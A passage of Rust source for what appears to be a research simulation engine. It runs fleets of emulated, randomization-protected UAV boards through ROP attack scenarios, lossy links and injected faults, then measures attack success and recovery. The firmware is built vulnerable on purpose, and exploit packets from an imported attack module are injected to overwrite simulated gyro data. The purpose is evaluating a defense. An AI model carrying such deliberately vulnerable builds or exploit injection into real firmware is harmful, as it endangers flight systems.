use mavr::policy::RandomizationPolicy;
use mavr_board::{ChaosConfig, FaultPlan, MasterError, MavrBoard};
use mavr_world::{FlightHarness, World, CYCLES_PER_STEP};
use rop::attack::AttackContext;
use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};
use synth_firmware::{apps, build, layout, AppSpec, BuildOptions};
use telemetry::metrics::MetricsRegistry;
use telemetry::{kinds, Telemetry, Value};

/// The 3-byte sensor write every attack scenario attempts (gyro state, as
/// in the paper's running example).
pub const ATTACK_TARGET: u16 = layout::GYRO + 3;
/// The attacker's marker bytes.
pub const ATTACK_VALUES: [u8; 3] = [0xde, 0xad, 0x42];

/// Full description of a fleet campaign. A campaign's result is a pure
/// function of this struct (`threads` excepted — it only changes how fast
/// the answer arrives).
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    /// Master seed: board seeds and channel seeds all derive from it.
    pub seed: u64,
    /// Boards per `(scenario, loss, fault)` cell.
    pub boards: usize,
    /// Attack scenarios to schedule against the fleet.
    pub scenarios: Vec<Scenario>,
    /// Per-byte impairment probabilities to sweep (applied equally to
    /// drop, corrupt and duplicate on both link directions). `0.0` is a
    /// perfect link.
    pub loss_levels: Vec<f64>,
    /// Fault-injection rates to sweep through each board's recovery
    /// pipeline ([`mavr_board::ChaosConfig::uniform`]). `0.0` injects
    /// nothing and leaves the board bit-for-bit identical to a
    /// chaos-free run.
    pub fault_levels: Vec<f64>,
    /// Cycles each board flies before the attack is injected.
    pub warmup_cycles: u64,
    /// Cycles each board flies after the last attack packet.
    pub attack_cycles: u64,
    /// Cycles between successive V3 carrier packets.
    pub packet_gap_cycles: u64,
    /// Ground-station scroll-back depth per board (totals stay exact).
    pub gcs_capacity: usize,
    /// Worker threads; `0` means one per available core. Never affects
    /// results, only wall-clock time.
    pub threads: usize,
    /// The application the fleet flies (built vulnerable, as the paper's
    /// target is).
    pub app: AppSpec,
    /// Block-fused execution on each board's app processor. An engine
    /// knob like `threads`: flipping it never changes any outcome (the
    /// fused engine is differentially verified against the stepping one),
    /// so it is excluded from the checkpoint fingerprint. Off is only
    /// useful for performance triage.
    pub block_fusion: bool,
    /// Fly each board inside the `mavr-world` physics arena: sensors
    /// feed the ADC, PWM drives a rigid body, and outcomes gain
    /// physical-impact columns (altitude excursion, ground impacts,
    /// altitude lost to recoveries). Off (the default) keeps the report
    /// byte-identical to the engine before the physics axis existed.
    /// Unlike `block_fusion`, this **changes results** — boards run to
    /// world-step boundaries and their ADC inputs are live — so it is
    /// part of the checkpoint fingerprint. Pair it with a flight app
    /// ([`synth_firmware::apps::synth_quad_flight`]) for a closed loop.
    pub physics: bool,
    /// Flight-recorder handle for engine-level events (checkpoint resume,
    /// progress heartbeats, …). Never affects results and is excluded
    /// from the checkpoint fingerprint.
    pub telemetry: Telemetry,
    /// Minimum wall-clock milliseconds between `campaign.progress`
    /// heartbeats (plus one final beat when the run ends). Only matters
    /// when `telemetry` is attached; never affects results or the
    /// checkpoint fingerprint.
    pub progress_interval_ms: u64,
    /// Tenant namespace for multi-tenant campaign services. Tenant `0`
    /// (the default) leaves every derived stream — board, channel, fault,
    /// world — exactly where the single-tenant engine put it, so existing
    /// campaigns and their checkpoints are untouched. A nonzero tenant id
    /// is splitmix64-mixed into the stream base ([`CampaignConfig::
    /// stream_base`]), giving each tenant a disjoint seed namespace even
    /// when two tenants submit the same campaign seed. Part of the
    /// checkpoint fingerprint (it changes every outcome).
    pub tenant: u64,
    /// Cooperative shutdown flag. When set, workers stop *claiming* new
    /// jobs but finish the ones they hold, so the completed set remains a
    /// contiguous prefix of the job order and any checkpoint flushed
    /// afterwards is valid. Shared (`Arc`) so a signal handler or service
    /// thread can trip it from outside. Never affects results of the jobs
    /// that do run; excluded from the checkpoint fingerprint.
    pub interrupt: Arc<AtomicBool>,
    /// Seeded job sabotage for exercising the supervisor: makes chosen
    /// jobs panic, hang (non-terminating until the cycle-budget watchdog
    /// trips) or fail transiently. A chaos-test knob like the `FaultPlan`
    /// on a board's recovery pipeline, but aimed at the campaign engine
    /// itself, so it is **excluded from the checkpoint fingerprint**:
    /// quarantined outcomes are an artifact of the harness, not a
    /// different experiment. [`JobChaos::none`] (the default) draws
    /// nothing and leaves every job byte-identical to the unsupervised
    /// engine.
    pub sabotage: JobChaos,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        CampaignConfig {
            seed: 0x2015,
            boards: 8,
            scenarios: vec![Scenario::Benign, Scenario::V2Stealthy],
            loss_levels: vec![0.0],
            fault_levels: vec![0.0],
            warmup_cycles: 300_000,
            attack_cycles: 6_000_000,
            packet_gap_cycles: 1_500_000,
            gcs_capacity: 256,
            threads: 0,
            app: apps::tiny_test_app(),
            block_fusion: true,
            physics: false,
            telemetry: Telemetry::off(),
            progress_interval_ms: 500,
            tenant: 0,
            interrupt: Arc::new(AtomicBool::new(false)),
            sabotage: JobChaos::none(),
        }
    }
}

impl CampaignConfig {
    /// The seed every per-job stream derives from. Tenant 0 uses the
    /// campaign seed directly — byte-compatible with the pre-tenant
    /// engine. A nonzero tenant xors in a splitmix64 mix of the tenant id
    /// (on its own reserved stream), so tenants sharing a service — even
    /// sharing a campaign seed — draw disjoint board/channel/fault/world
    /// streams.
    pub fn stream_base(&self) -> u64 {
        if self.tenant == 0 {
            self.seed
        } else {
            self.seed ^ derive_seed(self.tenant, TENANT_STREAM)
        }
    }

    /// Total jobs in the campaign matrix.
    pub fn total_jobs(&self) -> usize {
        self.scenarios.len() * self.loss_levels.len() * self.fault_levels.len() * self.boards
    }

    /// Whether the cooperative shutdown flag has been tripped.
    pub fn interrupted(&self) -> bool {
        self.interrupt.load(Ordering::Relaxed)
    }
}

/// Stream index reserved for the tenant mix — disjoint from the board/
/// channel streams at `3b..`, the fault streams at `(1 << 63) | job` and
/// the world streams at `(1 << 62) | base` (bit 61, and too large for any
/// realistic `3b + 2`).
const TENANT_STREAM: u64 = 1 << 61;

/// Stream region reserved for job-sabotage draws — bit 60, disjoint from
/// every engine stream above. Each job owns eight slots (`job << 3 ..`):
/// slots `0..=5` are per-attempt transient draws, slot 6 the backoff
/// jitter, slot 7 the persistent panic/hang draw. Sabotage draws are also
/// keyed off [`JobChaos::seed`], not the campaign seed, so they can never
/// perturb a board even on a stream collision.
const SABOTAGE_STREAM: u64 = 1 << 60;

/// Seeded sabotage of campaign jobs — the supervisor's own chaos plan.
/// Modeled on [`mavr_board::ChaosConfig`]: rates are per-job (or
/// per-attempt) probabilities, draws are splitmix64 streams, and the
/// all-zero plan performs no draws at all.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct JobChaos {
    /// Probability a job is a poison job: it panics on **every** attempt
    /// and ends up quarantined with [`JobFailureKind::Panic`].
    pub panic_rate: f64,
    /// Probability a job never terminates: it flies past its cycle budget
    /// until the watchdog quarantines it with [`JobFailureKind::Timeout`].
    pub hang_rate: f64,
    /// Per-attempt probability of a transient panic. Independent draws
    /// per attempt, so a flaky job usually succeeds within the retry cap
    /// — this is what exercises retry-then-recover.
    pub flaky_rate: f64,
    /// Seed of the sabotage streams (independent of the campaign seed).
    pub seed: u64,
}

impl JobChaos {
    /// The inert plan: no draws, no sabotage, byte-identical engine
    /// behavior to a build without job supervision.
    pub fn none() -> Self {
        JobChaos {
            panic_rate: 0.0,
            hang_rate: 0.0,
            flaky_rate: 0.0,
            seed: 0,
        }
    }

    /// Whether this plan can never sabotage anything.
    pub fn is_none(&self) -> bool {
        self.panic_rate == 0.0 && self.hang_rate == 0.0 && self.flaky_rate == 0.0
    }
}

/// Splitmix64-style per-job stream derivation: every `(campaign seed,
/// stream index)` pair yields an independent seed that never depends on
/// which worker thread consumed the job.
fn derive_seed(base: u64, stream: u64) -> u64 {
    let mut z = base ^ stream.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// One entry of the campaign matrix, in job order.
#[derive(Debug, Clone, Copy)]
struct Job {
    scenario: Scenario,
    scenario_idx: usize,
    loss: f64,
    fault: f64,
    board_index: usize,
    job_index: usize,
    /// Fault-independent identity: jobs differing only in fault rate share
    /// it, so board and channel seeds (derived from it) are matched across
    /// the fault axis — a fault-rate sweep compares the *same* fleet under
    /// different chaos, not different fleets. Equals `job_index` when
    /// `fault_levels == [0.0]`, which keeps chaos-free campaigns
    /// byte-identical to the engine before the fault axis existed.
    base_index: usize,
}

/// Drain the board's downlink through its lossy channel into the
/// ground-station session.
fn pump(board: &mut MavrBoard, down: &mut LossyChannel, gcs: &mut GroundStation) {
    let bytes = board.downlink();
    if !bytes.is_empty() {
        let delivered = down.transmit(&bytes);
        gcs.ingest(&delivered);
    }
}

/// How a job's board advances: bare, or coupled to the physics arena.
/// The plain arm is exactly the pre-physics engine — physics-off
/// campaigns stay byte-identical to it.
enum Flyer {
    Plain(Box<MavrBoard>),
    Physics(Box<FlightHarness>),
}

impl Flyer {
    fn board(&self) -> &MavrBoard {
        match self {
            Flyer::Plain(b) => b,
            Flyer::Physics(h) => &h.board,
        }
    }

    fn board_mut(&mut self) -> &mut MavrBoard {
        match self {
            Flyer::Plain(b) => b,
            Flyer::Physics(h) => &mut h.board,
        }
    }

    /// Advance the flight: exactly `cycles` bare, or the enclosing whole
    /// number of world steps with physics on (boundary-aligned, so the
    /// rounding is identical however the campaign partitions the run).
    fn run(&mut self, cycles: u64) -> Result<(), MasterError> {
        match self {
            Flyer::Plain(b) => b.run(cycles),
            Flyer::Physics(h) => h.run_steps(cycles.div_ceil(CYCLES_PER_STEP)),
        }
    }
}

/// The fault plan a job flies under: inert (and entropy-free) at rate 0,
/// seeded otherwise from a stream (top bit set, keyed by the full job
/// index) disjoint from the board/channel streams (which sit at `3b`,
/// `3b+1`, `3b+2` of the fault-independent base index).
fn job_fault_plan(cfg: &CampaignConfig, job: Job) -> FaultPlan {
    if job.fault > 0.0 {
        FaultPlan::new(
            derive_seed(cfg.stream_base(), (1u64 << 63) | job.job_index as u64),
            ChaosConfig::uniform(job.fault),
        )
    } else {
        FaultPlan::none()
    }
}

/// Run one board through its scenario. Fully deterministic given the
/// config and job description.
///
/// A board whose recovery pipeline fails terminally (typed
/// [`mavr_board::MasterError`] after every retry and the degraded
/// fallback) does **not** abort the campaign: its flight ends where it
/// bricked and the outcome records the fact.
fn run_board(
    cfg: &CampaignConfig,
    image: &avr_core::image::FirmwareImage,
    payloads: Option<&[Vec<u8>]>,
    job: Job,
) -> (BoardOutcome, GroundStation) {
    let stream_base = cfg.stream_base();
    let board_seed = derive_seed(stream_base, job.base_index as u64 * 3);
    let loss_cfg = LossConfig {
        drop: job.loss,
        corrupt: job.loss,
        duplicate: job.loss,
        delay: 0.0,
        max_delay: 0,
        seed: 0,
    };
    let mut up = LossyChannel::new(
        loss_cfg.with_seed(derive_seed(stream_base, job.base_index as u64 * 3 + 1)),
    );
    let mut down = LossyChannel::new(
        loss_cfg.with_seed(derive_seed(stream_base, job.base_index as u64 * 3 + 2)),
    );
    let mut gcs = GroundStation::with_capacity(cfg.gcs_capacity);
    let chaos = job_fault_plan(cfg, job);

    let Ok(mut board) = MavrBoard::provision_chaos(
        image,
        board_seed,
        RandomizationPolicy::default(),
        Telemetry::off(),
        chaos,
    ) else {
        // The very first boot exhausted its retries (there is no
        // last-known-good image yet): dead on the bench.
        let outcome = BoardOutcome {
            scenario: job.scenario,
            loss: job.loss,
            fault: job.fault,
            board_index: job.board_index,
            board_seed,
            attack_packets: 0,
            attack_succeeded: false,
            recoveries: 0,
            reflash_retries: 0,
            degraded_boots: 0,
            bricked: true,
            time_to_recovery: None,
            final_cycle: 0,
            heartbeats: 0,
            packets: 0,
            seq_gaps: 0,
            packets_lost: 0,
            bad_checksums: 0,
            uav_bad_crc: 0,
            sim_block_hits: 0,
            sim_block_invalidations: 0,
            sim_block_count: 0,
            up_stats: up.stats,
            down_stats: down.stats,
            world: None,
            failure: None,
        };
        return (outcome, gcs);
    };
    board.app.machine.set_block_fusion(cfg.block_fusion);

    // The world's RNG stream lives at `(1 << 62) | base_index`: keyed by
    // the fault-independent base index (same physics draw whatever the
    // fault rate) and disjoint from the board/channel streams at `3b..`
    // and the fault streams at `(1 << 63) | job_index`.
    let mut flyer = if cfg.physics {
        let world_seed = derive_seed(stream_base, (1u64 << 62) | job.base_index as u64);
        Flyer::Physics(Box::new(FlightHarness::new(
            board,
            World::new(mavr_world::Scenario::Hover, world_seed),
        )))
    } else {
        Flyer::Plain(Box::new(board))
    };

    let mut bricked = false;
    let mut injected_at = None;
    let mut attack_packets = 0;
    'flight: {
        if flyer.run(cfg.warmup_cycles).is_err() {
            bricked = true;
            break 'flight;
        }
        pump(flyer.board_mut(), &mut down, &mut gcs);

        injected_at = Some(flyer.board().app.machine.cycles());
        // The altitude-excursion window opens at injection time: anything
        // the hover accumulated during warmup is the board's own business,
        // the attack window's peak isolates what the scenario cost it.
        if let Flyer::Physics(h) = &mut flyer {
            let _ = h.world.take_peak_alt_err();
        }
        attack_packets = payloads.map_or(0, <[Vec<u8>]>::len);
        if let Some(packets) = payloads {
            for (i, payload) in packets.iter().enumerate() {
                let wire = gcs.exploit_packet(payload).expect("payload fits a frame");
                flyer.board_mut().uplink(&up.transmit(&wire));
                if i + 1 < packets.len() {
                    if flyer.run(cfg.packet_gap_cycles).is_err() {
                        bricked = true;
                        break 'flight;
                    }
                    pump(flyer.board_mut(), &mut down, &mut gcs);
                }
            }
            flyer.board_mut().uplink(&up.flush());
        }
        if flyer.run(cfg.attack_cycles).is_err() {
            bricked = true;
        }
    }
    pump(flyer.board_mut(), &mut down, &mut gcs);
    gcs.ingest(&down.flush());

    let world = match &flyer {
        Flyer::Plain(_) => None,
        Flyer::Physics(h) => Some(WorldMetrics {
            peak_alt_err_m: h.world.peak_alt_err(),
            ground_impacts: h.world.ground_impacts(),
            alt_lost_m: h.alt_lost_to_recoveries(),
            recoveries_caught: h.recoveries_caught(),
        }),
    };
    let board = flyer.board();
    let block_stats = board.app.machine.block_stats();
    let attack_succeeded = attack_packets > 0
        && board.app.machine.peek_range(ATTACK_TARGET, 3) == ATTACK_VALUES.to_vec();
    let time_to_recovery = injected_at.and_then(|at| {
        board
            .recovery_cycles()
            .into_iter()
            .find(|&c| c >= at)
            .map(|c| c - at)
    });
    let outcome = BoardOutcome {
        scenario: job.scenario,
        loss: job.loss,
        fault: job.fault,
        board_index: job.board_index,
        board_seed,
        attack_packets,
        attack_succeeded,
        recoveries: board.recoveries(),
        reflash_retries: board.master.resilience.reflash_retries,
        degraded_boots: board.master.resilience.degraded_boots,
        bricked,
        time_to_recovery,
        final_cycle: board.app.machine.cycles(),
        heartbeats: gcs.heartbeats.total(),
        packets: gcs.packets_parsed(),
        seq_gaps: gcs.seq_gaps_total(),
        packets_lost: gcs.packets_lost(),
        bad_checksums: gcs.bad_checksums(),
        uav_bad_crc: board.app.machine.peek_data(layout::BAD_CRC_COUNT),
        sim_block_hits: block_stats.hits,
        sim_block_invalidations: block_stats.invalidations,
        sim_block_count: block_stats.blocks,
        up_stats: up.stats,
        down_stats: down.stats,
        world,
        failure: None,
    };
    (outcome, gcs)
}

/// Supervised retry cap: attempts a job gets before quarantine. The cap
/// is part of the quarantine record on the wire (`attempts`), so changing
/// it changes sabotaged reports — but never fault-free ones.
pub(crate) const JOB_RETRY_CAP: u32 = 3;

/// First-retry backoff; doubles per attempt, plus seeded jitter.
const JOB_BACKOFF_BASE_MS: u64 = 1;

/// Map a derived-seed draw onto the unit interval (53-bit mantissa).
fn unit_draw(x: u64) -> f64 {
    (x >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Hard upper bound on the cycles a well-behaved job may consume — the
/// supervisor's watchdog. Deliberately loose: the worst-case flight
/// (warmup, every packet gap an attack scenario can schedule, the attack
/// window) plus world-step rounding slack per segment. The simulator is
/// cycle-bounded by construction, so only a sabotaged (or genuinely
/// non-terminating) firmware can ever reach it.
fn job_cycle_budget(cfg: &CampaignConfig) -> u64 {
    cfg.warmup_cycles
        .saturating_add(cfg.attack_cycles)
        .saturating_add(cfg.packet_gap_cycles.saturating_mul(14))
        .saturating_add(CYCLES_PER_STEP * 16)
}

/// What the sabotage plan does to one attempt at one job.
enum Sabotage {
    Pass,
    Panic,
    Hang,
}

fn sabotage_mode(cfg: &CampaignConfig, job: Job, attempt: u32) -> Sabotage {
    let sb = &cfg.sabotage;
    if sb.is_none() {
        return Sabotage::Pass;
    }
    let slots = SABOTAGE_STREAM | ((job.job_index as u64) << 3);
    // Slot 7: the job's persistent fate — the same draw on every attempt,
    // which is what makes a poison job *persistently* failing and its
    // quarantine deterministic.
    let fate = unit_draw(derive_seed(sb.seed, slots | 7));
    if fate < sb.panic_rate {
        return Sabotage::Panic;
    }
    if fate < sb.panic_rate + sb.hang_rate {
        return Sabotage::Hang;
    }
    // Slots 0..=5: independent per-attempt transient draws.
    if sb.flaky_rate > 0.0 {
        let transient = unit_draw(derive_seed(sb.seed, slots | u64::from(attempt.min(5))));
        if transient < sb.flaky_rate {
            return Sabotage::Panic;
        }
    }
    Sabotage::Pass
}

/// A sabotaged non-terminating flight: the board keeps flying until the
/// cycle-budget watchdog trips. This is the watchdog's proof that it
/// actually bounds a runaway job — the loop's only exit is the budget.
fn fly_until_watchdog(
    cfg: &CampaignConfig,
    image: &avr_core::image::FirmwareImage,
    job: Job,
) -> JobFailureKind {
    let board_seed = derive_seed(cfg.stream_base(), job.base_index as u64 * 3);
    let budget = job_cycle_budget(cfg);
    let Ok(mut board) = MavrBoard::provision_chaos(
        image,
        board_seed,
        RandomizationPolicy::default(),
        Telemetry::off(),
        FaultPlan::none(),
    ) else {
        return JobFailureKind::Timeout;
    };
    board.app.machine.set_block_fusion(cfg.block_fusion);
    let chunk = (budget / 8).max(4096);
    while board.app.machine.cycles() <= budget {
        if board.run(chunk).is_err() {
            // Bricked mid-hang: it is still never going to finish.
            break;
        }
    }
    JobFailureKind::Timeout
}

/// One supervised attempt at a job: apply the sabotage plan, fly, and
/// check the watchdog. Panics (sabotaged or genuine) are caught one level
/// up in [`run_board_supervised`].
fn run_board_attempt(
    cfg: &CampaignConfig,
    image: &avr_core::image::FirmwareImage,
    payloads: Option<&[Vec<u8>]>,
    job: Job,
    attempt: u32,
) -> Result<(BoardOutcome, GroundStation), JobFailureKind> {
    match sabotage_mode(cfg, job, attempt) {
        Sabotage::Pass => {}
        Sabotage::Panic => panic!(
            "sabotage: poison job {} panicking on attempt {attempt}",
            job.job_index
        ),
        Sabotage::Hang => return Err(fly_until_watchdog(cfg, image, job)),
    }
    let done = run_board(cfg, image, payloads, job);
    if done.0.final_cycle > job_cycle_budget(cfg) {
        return Err(JobFailureKind::Timeout);
    }
    Ok(done)
}

/// Deterministic exponential backoff before retry `attempt + 1`: base
/// doubles per attempt, jitter is a seeded draw (slot 6 of the job's
/// sabotage stream) — wall-clock only, never on the wire, so reports stay
/// byte-identical however long the retries actually slept.
fn job_backoff(cfg: &CampaignConfig, job: Job, attempt: u32) -> Duration {
    let base = JOB_BACKOFF_BASE_MS << attempt;
    let jitter = derive_seed(
        cfg.sabotage.seed,
        SABOTAGE_STREAM | ((job.job_index as u64) << 3) | 6,
    ) % base.max(1);
    Duration::from_millis(base + jitter)
}

/// Run one job inside its fault domain: `catch_unwind` so a panicking
/// board kills the attempt and not the worker, the cycle-budget watchdog
/// so a non-terminating board becomes a typed `Timeout`, bounded retries
/// with deterministic backoff, and — when every attempt fails — a
/// quarantined outcome that flows through the JSONL/checkpoint wire like
/// any other result. A failing job therefore *never* aborts a shard and
/// is never silently dropped.
fn run_board_supervised(
    cfg: &CampaignConfig,
    image: &avr_core::image::FirmwareImage,
    payloads: Option<&[Vec<u8>]>,
    job: Job,
) -> (BoardOutcome, GroundStation) {
    let mut last = JobFailureKind::Panic;
    for attempt in 0..JOB_RETRY_CAP {
        match catch_unwind(AssertUnwindSafe(|| {
            run_board_attempt(cfg, image, payloads, job, attempt)
        })) {
            Ok(Ok(done)) => return done,
            Ok(Err(kind)) => last = kind,
            Err(_panic_payload) => last = JobFailureKind::Panic,
        }
        cfg.telemetry.emit(kinds::JOB_RETRIED, None, || {
            vec![
                ("job", Value::U64(job.job_index as u64)),
                ("attempt", Value::U64(u64::from(attempt))),
                ("kind", Value::Str(last.name().to_string())),
            ]
        });
        if attempt + 1 < JOB_RETRY_CAP {
            std::thread::sleep(job_backoff(cfg, job, attempt));
        }
    }
    cfg.telemetry.emit(kinds::JOB_QUARANTINED, None, || {
        vec![
            ("job", Value::U64(job.job_index as u64)),
            ("kind", Value::Str(last.name().to_string())),
            ("attempts", Value::U64(u64::from(JOB_RETRY_CAP))),
        ]
    });
    let failure = JobFailure {
        kind: last,
        attempts: JOB_RETRY_CAP,
    };
    (
        quarantined_outcome(cfg, job, failure),
        GroundStation::with_capacity(cfg.gcs_capacity),
    )
}

/// The outcome of a quarantined job: real matrix coordinates (so cell
/// accounting and checkpoint contiguity hold), zeroed observations, and
/// the typed failure record.
fn quarantined_outcome(cfg: &CampaignConfig, job: Job, failure: JobFailure) -> BoardOutcome {
    BoardOutcome {
        scenario: job.scenario,
        loss: job.loss,
        fault: job.fault,
        board_index: job.board_index,
        board_seed: derive_seed(cfg.stream_base(), job.base_index as u64 * 3),
        attack_packets: 0,
        attack_succeeded: false,
        recoveries: 0,
        reflash_retries: 0,
        degraded_boots: 0,
        bricked: false,
        time_to_recovery: None,
        final_cycle: 0,
        heartbeats: 0,
        packets: 0,
        seq_gaps: 0,
        packets_lost: 0,
        bad_checksums: 0,
        uav_bad_crc: 0,
        sim_block_hits: 0,
        sim_block_invalidations: 0,
        sim_block_count: 0,
        up_stats: ChannelStats::default(),
        down_stats: ChannelStats::default(),
        world: None,
        failure: Some(failure),
    }
}

/// The per-campaign artifacts every job shares: the (unprotected) firmware
/// image and one canned payload set per scenario.
struct Prepared {
    image: avr_core::image::FirmwareImage,
    payloads: Vec<Option<Vec<Vec<u8>>>>,
}

/// Per-campaign artifacts, prepared once and shared across shard runs —
/// an opaque handle so a service running thousands of shards doesn't
/// rebuild the firmware and re-craft the payload set per shard.
pub struct PreparedCampaign(Prepared);

impl PreparedCampaign {
    /// Build the campaign's firmware image and per-scenario payload set.
    pub fn new(cfg: &CampaignConfig) -> Self {
        PreparedCampaign(prepare(cfg))
    }
}

fn prepare(cfg: &CampaignConfig) -> Prepared {
    let fw = build(&cfg.app, &BuildOptions::vulnerable_mavr()).expect("campaign app builds");
    let ctx = AttackContext::discover(&fw.image).expect("attack discovery on campaign app");
    // One payload set per scenario, crafted against the unprotected image.
    let payloads: Vec<Option<Vec<Vec<u8>>>> = cfg
        .scenarios
        .iter()
        .map(|s| {
            s.attack_kind().map(|k| {
                ctx.packets(k, &[(ATTACK_TARGET, ATTACK_VALUES)])
                    .expect("payload builds")
            })
        })
        .collect();
    Prepared {
        image: fw.image,
        payloads,
    }
}

/// The job at position `index` of the campaign matrix, computed directly
/// from the index arithmetic (matrix order is scenario-major: scenario,
/// then loss, then fault, then board). This is the *definition* of the job
/// order — [`build_jobs`] materializes it, shard runners evaluate it
/// lazily so a million-job campaign never allocates a million-entry list.
fn job_at(cfg: &CampaignConfig, index: usize) -> Job {
    let per_fault = cfg.boards;
    let per_loss = cfg.fault_levels.len() * per_fault;
    let per_scenario = cfg.loss_levels.len() * per_loss;
    let scenario_idx = index / per_scenario;
    let loss_idx = (index % per_scenario) / per_loss;
    let fault_idx = (index % per_loss) / per_fault;
    let board_index = index % per_fault;
    Job {
        scenario: cfg.scenarios[scenario_idx],
        scenario_idx,
        loss: cfg.loss_levels[loss_idx],
        fault: cfg.fault_levels[fault_idx],
        board_index,
        job_index: index,
        base_index: (scenario_idx * cfg.loss_levels.len() + loss_idx) * cfg.boards + board_index,
    }
}

/// The campaign's full job list, in matrix (scenario-major) order. Job
/// indices are positions in this list; seeds derive from them, so the list
/// must be rebuilt identically on resume.
fn build_jobs(cfg: &CampaignConfig) -> Vec<Job> {
    (0..cfg.total_jobs()).map(|i| job_at(cfg, i)).collect()
}

/// Wall-clock-throttled `campaign.progress` heartbeat emitter, shared by
/// every worker thread. Heartbeats are the **only** place wall-clock
/// numbers (elapsed time, boards·cycles/sec) appear — they ride the
/// telemetry bus, never the report or the metrics registry, so results
/// stay byte-identical across machines and runs.
struct ProgressMeter<'a> {
    telemetry: &'a Telemetry,
    /// Jobs completed before this call (resume picks up mid-campaign).
    done_offset: usize,
    /// Full campaign matrix size, not just this call's batch.
    grand_total: usize,
    interval: Duration,
    started: Instant,
    done: AtomicUsize,
    cycles: AtomicU64,
    attacks: AtomicUsize,
    recoveries: AtomicUsize,
    bricked: AtomicUsize,
    last_emit: Mutex<Instant>,
}

impl<'a> ProgressMeter<'a> {
    fn new(cfg: &'a CampaignConfig, done_offset: usize, grand_total: usize) -> Self {
        let now = Instant::now();
        ProgressMeter {
            telemetry: &cfg.telemetry,
            done_offset,
            grand_total,
            interval: Duration::from_millis(cfg.progress_interval_ms),
            started: now,
            done: AtomicUsize::new(0),
            cycles: AtomicU64::new(0),
            attacks: AtomicUsize::new(0),
            recoveries: AtomicUsize::new(0),
            bricked: AtomicUsize::new(0),
            last_emit: Mutex::new(now),
        }
    }

    /// Account one finished job and emit a heartbeat if the throttle
    /// window has elapsed.
    fn observe(&self, o: &BoardOutcome) {
        self.done.fetch_add(1, Ordering::Relaxed);
        self.cycles.fetch_add(o.final_cycle, Ordering::Relaxed);
        if o.attack_succeeded {
            self.attacks.fetch_add(1, Ordering::Relaxed);
        }
        self.recoveries.fetch_add(o.recoveries, Ordering::Relaxed);
        if o.bricked {
            self.bricked.fetch_add(1, Ordering::Relaxed);
        }
        self.emit(false);
    }

    fn emit(&self, force: bool) {
        if !self.telemetry.is_active() {
            return;
        }
        let now = Instant::now();
        {
            let mut last = self.last_emit.lock().expect("no poisoned meter");
            if !force && now.duration_since(*last) < self.interval {
                return;
            }
            *last = now;
        }
        let cycles = self.cycles.load(Ordering::Relaxed);
        let elapsed = now.duration_since(self.started).as_secs_f64();
        let rate = if elapsed > 0.0 {
            cycles as f64 / elapsed
        } else {
            0.0
        };
        let done_here = self.done.load(Ordering::Relaxed);
        let done = (self.done_offset + done_here) as u64;
        // Jobs/sec and the ETA derive from *this run's* throughput: a
        // resume that already holds half the campaign shouldn't claim the
        // historical average of a machine it may not be running on.
        let jobs_per_sec = if elapsed > 0.0 {
            done_here as f64 / elapsed
        } else {
            0.0
        };
        let remaining = self.grand_total.saturating_sub(done as usize);
        let eta_s = if jobs_per_sec > 0.0 {
            remaining as f64 / jobs_per_sec
        } else {
            0.0
        };
        let (attacks, recoveries, bricked) = (
            self.attacks.load(Ordering::Relaxed) as u64,
            self.recoveries.load(Ordering::Relaxed) as u64,
            self.bricked.load(Ordering::Relaxed) as u64,
        );
        self.telemetry.emit(kinds::CAMPAIGN_PROGRESS, None, || {
            vec![
                ("jobs_done", Value::U64(done)),
                ("jobs_total", Value::U64(self.grand_total as u64)),
                ("sim_cycles", Value::U64(cycles)),
                ("attack_successes", Value::U64(attacks)),
                ("recoveries", Value::U64(recoveries)),
                ("bricked", Value::U64(bricked)),
                ("elapsed_ms", Value::F64(elapsed * 1000.0)),
                ("boards_cycles_per_sec", Value::F64(rate)),
                ("jobs_per_sec", Value::F64(jobs_per_sec)),
                ("eta_s", Value::F64(eta_s)),
            ]
        });
    }
}

/// Completed-but-not-yet-emitted results, keyed by position in the job
/// batch. Workers insert out of order; the coordinator drains in order.
struct Reorder {
    ready: BTreeMap<usize, (BoardOutcome, GroundStation)>,
    workers_live: usize,
}

/// Run `jobs` (any subset of the campaign matrix) over the worker pool,
/// **streaming** each result to `sink` in batch position order as soon as
/// its prefix is complete — the campaign never holds more finished boards
/// in memory than the workers are ahead of the slowest job.
///
/// Workers claim batch positions from a shared counter, so the claimed
/// set is always a contiguous prefix; when `cfg.interrupt` trips, workers
/// stop claiming but finish what they hold, keeping that prefix property
/// — which is exactly what makes a post-interrupt checkpoint valid.
///
/// Returns the number of jobs that ran (`< jobs.len()` only when
/// interrupted) and the merged per-worker metrics shards (each worker
/// folds its outcomes into a private [`MetricsRegistry`]; shard merge is
/// order-insensitive, so the merged registry is identical at any thread
/// count).
fn execute_jobs_streaming(
    cfg: &CampaignConfig,
    prepared: &Prepared,
    jobs: &[Job],
    meter: &ProgressMeter<'_>,
    mut sink: impl FnMut(usize, BoardOutcome, GroundStation),
) -> (usize, MetricsRegistry) {
    let threads = if cfg.threads == 0 {
        std::thread::available_parallelism().map_or(1, |n| n.get())
    } else {
        cfg.threads
    }
    .clamp(1, jobs.len().max(1));

    let next = AtomicUsize::new(0);
    let reorder = Mutex::new(Reorder {
        ready: BTreeMap::new(),
        workers_live: threads,
    });
    let ready_cond = Condvar::new();
    let shards: Mutex<Vec<MetricsRegistry>> = Mutex::new(Vec::with_capacity(threads));
    let mut emitted = 0usize;
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| {
                let mut shard = MetricsRegistry::new();
                loop {
                    if cfg.interrupted() {
                        break;
                    }
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(job) = jobs.get(i).copied() else {
                        break;
                    };
                    // The job's fault domain: panics, hangs and retries
                    // all stay inside this call — a poison job yields a
                    // quarantined outcome, never a dead worker.
                    let result = run_board_supervised(
                        cfg,
                        &prepared.image,
                        prepared.payloads[job.scenario_idx].as_deref(),
                        job,
                    );
